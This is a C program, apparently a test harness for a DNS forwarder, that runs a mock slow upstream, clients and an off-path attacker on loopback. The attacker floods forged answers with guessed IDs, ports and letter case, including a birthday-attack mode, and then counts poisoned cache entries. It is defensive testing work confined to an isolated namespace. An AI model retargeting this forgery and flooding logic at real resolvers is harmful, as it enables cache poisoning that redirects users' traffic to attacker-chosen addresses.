/*
 * An off-path cache-poisoning attack on a DNS forwarder, for spoofing.sh:
 * the slow upstream, the clients and the attacker in one program.
 *
 *   gcc -O2 -o spoof spoof.c
 *   ./spoof PROXY_PORT UPSTREAM_PORT FIRST_PORT LAST_PORT NAMES DELAY_MS BIRTHDAY
 *
 * The upstream listens on 127.0.0.1:UPSTREAM_PORT and answers every question
 * with A 192.0.2.1 after DELAY_MS. For each of NAMES names, clients ask the
 * forwarder on 127.0.0.1:PROXY_PORT (one client for the first half of the
 * names, BIRTHDAY clients at once for the second half: a birthday attack),
 * and until they have their answers the attacker floods forged answers
 * (A 203.0.113.66) from the upstream's own socket: source address and port
 * exactly right, the question right (lower case; for every second name a
 * random case per forgery, a guess at 0x20), the ID random, the destination
 * a random port from FIRST_PORT to LAST_PORT on 127.0.0.1. When every name
 * has been asked, each is asked once more: what the cache holds.
 *
 * Prints one line of counts: forgeries sent, upstream queries, client
 * answers, answers with the forged address, lost questions, and names whose
 * cached answer is the forged one. Run it only where nothing else listens on
 * 127.0.0.1 (spoofing.sh runs it in a network namespace of its own): it
 * sends datagrams to every port in the range.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/random.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

enum { MAX_CLIENTS = 256, MAX_PENDING = 4096, MAX_MESSAGE = 512, BURST = 64 };

static const unsigned char true_address[4] = {192, 0, 2, 1};
static const unsigned char forged_address[4] = {203, 0, 113, 66};

static uint64_t rng_state;

/* SplitMix64: the attacker's guesses need speed, not quality. */
static uint64_t next_random(void) {
  uint64_t z = (rng_state += 0x9E3779B97F4A7C15ull);
  z = (z ^ (z >> 30)) * 0xBF58476D1CE4E5B9ull;
  z = (z ^ (z >> 27)) * 0x94D049BB133111EBull;
  return z ^ (z >> 31);
}

static uint64_t now_ms(void) {
  struct timespec ts;
  clock_gettime(CLOCK_MONOTONIC, &ts);
  return (uint64_t)ts.tv_sec * 1000 + (uint64_t)ts.tv_nsec / 1000000;
}

static struct sockaddr_in loopback(int port) {
  struct sockaddr_in address;
  memset(&address, 0, sizeof address);
  address.sin_family = AF_INET;
  address.sin_port = htons((unsigned short)port);
  address.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
  return address;
}

static void nonblocking(int fd) { fcntl(fd, F_SETFL, fcntl(fd, F_GETFL) | O_NONBLOCK); }

/* Writes NAME (dotted, lower case) in wire form; returns its length. */
static int write_name(unsigned char *out, const char *name) {
  int length = 0;
  const char *label = name;
  while (*label) {
    const char *dot = strchr(label, '.');
    int size = dot ? (int)(dot - label) : (int)strlen(label);
    out[length++] = (unsigned char)size;
    memcpy(out + length, label, (size_t)size);
    length += size;
    label += size + (dot ? 1 : 0);
  }
  out[length++] = 0;
  return length;
}

/* A message with the question NAME A IN (and, with ADDRESS, one answer
 * record A ADDRESS, TTL one day); returns its length. */
static int build(unsigned char *out, uint16_t id, int response, const char *name,
                 const unsigned char *address) {
  memset(out, 0, 12);
  out[0] = (unsigned char)(id >> 8);
  out[1] = (unsigned char)id;
  out[2] = response ? 0x81 : 0x01; /* QR, RD */
  out[3] = response ? 0x80 : 0x00; /* RA */
  out[5] = 1;
  int length = 12 + write_name(out + 12, name);
  memcpy(out + length, "\0\1\0\1", 4);
  length += 4;
  if (address) {
    out[7] = 1;
    static const unsigned char record[] = {0xC0, 0x0C, 0, 1, 0, 1, 0, 1, 0x51, 0x80, 0, 4};
    memcpy(out + length, record, sizeof record);
    length += (int)sizeof record;
    memcpy(out + length, address, 4);
    length += 4;
  }
  return length;
}

/* The end of the question of MESSAGE (LENGTH bytes), or -1. */
static int question_end(const unsigned char *message, int length) {
  int offset = 12;
  while (offset < length && message[offset] != 0) {
    if (message[offset] >= 64) return -1; /* no compression in questions */
    offset += 1 + message[offset];
  }
  offset += 5;
  return offset <= length ? offset : -1;
}

/* 1 if the reply carries the forged address, 0 if not, -1 if unreadable. */
static int is_forged(const unsigned char *reply, int length) {
  int offset = question_end(reply, length);
  if (offset < 0) return -1;
  int answers = reply[6] << 8 | reply[7];
  for (int i = 0; i < answers; i++) {
    while (offset < length && reply[offset] != 0 && reply[offset] < 0xC0)
      offset += 1 + reply[offset];
    offset += (offset < length && reply[offset] >= 0xC0) ? 2 : 1;
    if (offset + 10 > length) return -1;
    int type = reply[offset] << 8 | reply[offset + 1];
    int size = reply[offset + 8] << 8 | reply[offset + 9];
    offset += 10;
    if (offset + size > length) return -1;
    if (type == 1 && size == 4 && memcmp(reply + offset, forged_address, 4) == 0) return 1;
    offset += size;
  }
  return 0;
}

/* The slow upstream: answers queued until due. */
struct pending {
  uint64_t due;
  int length;
  struct sockaddr_in peer;
  unsigned char message[MAX_MESSAGE];
};
static struct pending pending[MAX_PENDING];
static int pending_count;
static int upstream_fd, delay_ms;
static long upstream_queries;

static void serve_upstream(void) {
  unsigned char query[MAX_MESSAGE];
  for (;;) {
    struct sockaddr_in peer;
    socklen_t size = sizeof peer;
    ssize_t got = recvfrom(upstream_fd, query, sizeof query, 0, (struct sockaddr *)&peer, &size);
    if (got < 0) break;
    if (got < 12 || (query[2] & 0x80)) continue; /* a response: our own forgery */
    int end = question_end(query, (int)got);
    if (end < 0 || pending_count == MAX_PENDING) continue;
    upstream_queries++;
    struct pending *answer = &pending[pending_count++];
    /* The question exactly as asked (0x20 case included), then the record. */
    memcpy(answer->message, query, (size_t)end);
    answer->message[2] = 0x80 | (query[2] & 0x01);
    answer->message[3] = 0x80;
    memset(answer->message + 6, 0, 6);
    answer->message[7] = 1;
    static const unsigned char record[] = {0xC0, 0x0C, 0, 1, 0, 1, 0, 1, 0x51, 0x80, 0, 4};
    memcpy(answer->message + end, record, sizeof record);
    memcpy(answer->message + end + sizeof record, true_address, 4);
    answer->length = end + (int)sizeof record + 4;
    answer->peer = peer;
    answer->due = now_ms() + (uint64_t)delay_ms;
  }
  uint64_t now = now_ms();
  for (int i = 0; i < pending_count;) {
    if (pending[i].due <= now) {
      sendto(upstream_fd, pending[i].message, (size_t)pending[i].length, 0,
             (struct sockaddr *)&pending[i].peer, sizeof pending[i].peer);
      pending[i] = pending[--pending_count];
    } else {
      i++;
    }
  }
}

int main(int argc, char **argv) {
  if (argc != 8) {
    fprintf(stderr,
            "usage: %s PROXY_PORT UPSTREAM_PORT FIRST_PORT LAST_PORT NAMES DELAY_MS BIRTHDAY\n",
            argv[0]);
    return 2;
  }
  int proxy_port = atoi(argv[1]), first_port = atoi(argv[3]), last_port = atoi(argv[4]);
  int names = atoi(argv[5]), birthday = atoi(argv[7]);
  delay_ms = atoi(argv[6]);
  if (birthday < 1 || birthday > MAX_CLIENTS || first_port > last_port) return 2;
  if (getrandom(&rng_state, sizeof rng_state, 0) != sizeof rng_state) rng_state = (uint64_t)time(0);

  upstream_fd = socket(AF_INET, SOCK_DGRAM, 0);
  struct sockaddr_in upstream = loopback(atoi(argv[2]));
  if (bind(upstream_fd, (struct sockaddr *)&upstream, sizeof upstream) != 0) {
    perror("bind upstream");
    return 1;
  }
  nonblocking(upstream_fd);
  int buffer = 4 << 20;
  setsockopt(upstream_fd, SOL_SOCKET, SO_RCVBUF, &buffer, sizeof buffer);
  struct sockaddr_in proxy = loopback(proxy_port);

  long forgeries = 0, answers = 0, poisoned = 0, lost = 0, cache_poisoned = 0;
  unsigned char forged[MAX_MESSAGE], message[MAX_MESSAGE], reply[4096];
  int clients[MAX_CLIENTS];
  char name[64];
  uint64_t run = next_random() & 0xFFFFFF;

  for (int round = 0; round < names; round++) {
    snprintf(name, sizeof name, "n%d-%06llx.spoof.test", round, (unsigned long long)run);
    int count = round < names / 2 ? 1 : birthday;
    int random_case = round % 2;
    int forged_length = build(forged, 0, 1, name, forged_address);
    int name_end = 12 + (int)strlen(name) + 2;
    int answered[MAX_CLIENTS] = {0};
    for (int i = 0; i < count; i++) {
      clients[i] = socket(AF_INET, SOCK_DGRAM, 0);
      connect(clients[i], (struct sockaddr *)&proxy, sizeof proxy); /* only the proxy's replies */
      nonblocking(clients[i]);
      int length = build(message, (uint16_t)next_random(), 0, name, NULL);
      send(clients[i], message, (size_t)length, 0);
    }
    int done = 0;
    uint64_t give_up = now_ms() + (uint64_t)delay_ms + 5000;
    struct sockaddr_in target = loopback(0);
    uint64_t span = (uint64_t)(last_port - first_port + 1);
    while (done < count && now_ms() < give_up) {
      for (int i = 0; i < BURST; i++) {
        uint64_t bits = next_random();
        forged[0] = (unsigned char)bits;
        forged[1] = (unsigned char)(bits >> 8);
        target.sin_port = htons((unsigned short)(first_port + (int)((bits >> 16) % span)));
        if (random_case) {
          uint64_t case_bits = next_random();
          for (int at = 13; at < name_end; at++) {
            unsigned char lower = forged[at] | 0x20;
            if (lower >= 'a' && lower <= 'z') {
              forged[at] = (case_bits & 1) ? (unsigned char)(lower & ~0x20) : lower;
              case_bits >>= 1;
            }
          }
        }
        if (sendto(upstream_fd, forged, (size_t)forged_length, 0, (struct sockaddr *)&target,
                   sizeof target) > 0)
          forgeries++;
      }
      serve_upstream();
      for (int i = 0; i < count; i++) {
        if (answered[i]) continue;
        ssize_t got = recv(clients[i], reply, sizeof reply, 0);
        if (got < 12) continue;
        answered[i] = 1;
        done++;
        answers++;
        if (is_forged(reply, (int)got) == 1) poisoned++;
      }
    }
    lost += count - done;
    for (int i = 0; i < count; i++) close(clients[i]);
  }
  /* Late answers out before the cache is asked. */
  uint64_t quiet = now_ms() + (uint64_t)delay_ms + 200;
  while (now_ms() < quiet) {
    serve_upstream();
    usleep(1000);
  }
  long queries_before_check = upstream_queries;
  for (int round = 0; round < names; round++) {
    snprintf(name, sizeof name, "n%d-%06llx.spoof.test", round, (unsigned long long)run);
    int client = socket(AF_INET, SOCK_DGRAM, 0);
    connect(client, (struct sockaddr *)&proxy, sizeof proxy);
    nonblocking(client);
    int length = build(message, (uint16_t)next_random(), 0, name, NULL);
    send(client, message, (size_t)length, 0);
    uint64_t give_up = now_ms() + (uint64_t)delay_ms + 3000;
    while (now_ms() < give_up) {
      serve_upstream();
      ssize_t got = recv(client, reply, sizeof reply, 0);
      if (got >= 12) {
        if (is_forged(reply, (int)got) == 1) cache_poisoned++;
        break;
      }
      usleep(200);
    }
    close(client);
  }
  printf("forgeries %ld upstream_queries %ld answers %ld poisoned %ld lost %ld "
         "cache_poisoned %ld cache_misses %ld\n",
         forgeries, queries_before_check, answers, poisoned, lost, cache_poisoned,
         upstream_queries - queries_before_check);
  return 0;
}
